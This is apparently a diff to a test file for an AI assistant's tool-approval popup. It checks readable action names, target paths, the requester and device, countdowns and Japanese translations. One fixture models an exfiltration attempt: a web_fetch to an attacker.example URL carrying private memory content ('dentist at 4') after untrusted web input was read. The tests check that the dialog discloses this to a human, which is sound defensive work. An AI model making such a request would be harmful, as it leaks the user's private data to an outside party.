@@ -17,7 +17,9 @@ URL = (
 )
 
 
-def _request(expires_in: float = 60, channel: str = "device-1234") -> ApprovalRequest:
+def _request(
+    expires_in: float = 60, channel: str = "device-1234", role: Role = Role.OWNER
+) -> ApprovalRequest:
     args = {"path": "report.docx"}
     return ApprovalRequest(
         approval_id="a1",
@@ -25,11 +27,12 @@ def _request(expires_in: float = 60, channel: str = "device-1234") -> ApprovalRe
         arguments=args,
         digest=args_digest("files_delete", args),
         risk=Risk.HIGH,
-        requester="owner",
-        requester_role=Role.OWNER,
+        requester="owner" if role is Role.OWNER else channel,
+        requester_role=role,
         channel=channel,
         reason="'files_delete' is HIGH risk",
         expires_at=time.time() + expires_in,
+        target="/home/mika/ORA files/report.docx",
     )
 
 
@@ -65,7 +68,7 @@ def test_approve_and_deny_buttons(qtbot: Any) -> None:
         dialog = ApprovalDialog(_request())
         qtbot.addWidget(dialog)
         assert (
-            "files_delete" in dialog.summary.text()
+            "Delete a file" in dialog.summary.text()
             and "report.docx" in dialog.arguments.toPlainText()
         )
         assert dialog.windowFlags() & Qt.WindowType.WindowStaysOnTopHint
@@ -156,10 +159,13 @@ def test_dialogs_speak_japanese_with_the_translation_installed(qtbot: Any, qapp:
     translator = i18n.install(qapp, "ja")
     assert translator is not None
     try:
-        dialog = ApprovalDialog(_request())
+        dialog = ApprovalDialog(_request(channel="tray"))
         qtbot.addWidget(dialog)
         assert dialog.approve_button.text() == "承認" and dialog.deny_button.text() == "拒否"
-        assert "リスク: HIGH" in dialog.summary.text()
+        assert (
+            "ファイルを削除する" in dialog.summary.text() and "リスク: 高" in dialog.summary.text()
+        )
+        assert dialog.origin.text() == "依頼した人: あなた（所有者） · 端末: この PC"
         pairing = PairingDialog(URL, time.time() + 300)
         qtbot.addWidget(pairing)
         assert pairing.new_code.text() == "新しいコード" and "有効期限" in pairing.countdown.text()
@@ -168,3 +174,71 @@ def test_dialogs_speak_japanese_with_the_translation_installed(qtbot: Any, qapp:
     english = ApprovalDialog(_request())
     qtbot.addWidget(english)
     assert english.approve_button.text() == "Approve"
+
+
+def test_the_popup_names_the_action_its_whole_target_the_person_and_the_device(
+    qtbot: Any,
+) -> None:
+    """What a person judges by: a human name for the tool, the full path, who asked on which
+    device (by name, never an id prefix), and a countdown that counts."""
+    dialog = ApprovalDialog(_request(channel="d-guest-1", role=Role.GUEST), "Mika's phone")
+    qtbot.addWidget(dialog)
+    dialog.show()
+    assert "Delete a file" in dialog.summary.text() and "risk: high" in dialog.summary.text()
+    assert "files_delete" not in dialog.summary.text()
+    assert dialog.target.isVisible()
+    assert dialog.target.text() == "/home/mika/ORA files/report.docx"
+    assert dialog.origin.text() == "Asked by a guest on Mika's phone"
+    assert "d-guest" not in dialog.origin.text()
+    first = dialog.countdown.text()
+    qtbot.waitUntil(lambda: dialog.countdown.text() != first, timeout=2500)
+    assert int(first.split()[-2]) > int(dialog.countdown.text().split()[-2])
+
+
+def _tainted_request() -> ApprovalRequest:
+    args = {"url": "https://attacker.example/c?d=dentist+at+4"}
+    return ApprovalRequest(
+        approval_id="a2",
+        tool="web_fetch",
+        arguments=args,
+        digest=args_digest("web_fetch", args),
+        risk=Risk.MEDIUM,
+        requester="owner",
+        requester_role=Role.OWNER,
+        channel="tray",
+        reason="'web_fetch' could send data out ...",
+        expires_at=time.time() + 60,
+        details={
+            "sends_to": "https://attacker.example/c?d=dentist+at+4",
+            "body": "",
+            "untrusted_sources": [{"tool": "web_fetch", "where": "https://recipes.example/%1"}],
+            "private_reads": [{"tool": "memory_recall", "what": "{}", "excerpt": "dentist at 4"}],
+        },
+    )
+
+
+def test_the_taint_disclosure_speaks_the_trays_language(qtbot: Any, qapp: Any) -> None:
+    """What would leave, to where, and the turn's private reads: in Japanese with the
+    translation installed, in English without; the untrusted address is shown as it is."""
+    from app.tray import i18n
+
+    translator = i18n.install(qapp, "ja")
+    assert translator is not None
+    try:
+        dialog = ApprovalDialog(_tainted_request())
+        qtbot.addWidget(dialog)
+        shown = dialog.arguments.toPlainText()
+        assert "送信先: https://attacker.example/c?d=dentist+at+4" in shown
+        assert "信頼できない内容（web_fetch https://recipes.example/%1）" in shown
+        assert (
+            "この会話で読み取られた個人データ" in shown
+            and "memory_recall {}: dentist at 4" in shown
+        )
+        assert "Sends to" not in shown
+    finally:
+        qapp.removeTranslator(translator)
+    english_dialog = ApprovalDialog(_tainted_request())
+    qtbot.addWidget(english_dialog)
+    english = english_dialog.arguments.toPlainText()
+    assert "Sends to: https://attacker.example/c?d=dentist+at+4" in english
+    assert "Private data read in this turn" in english and "送信先" not in english
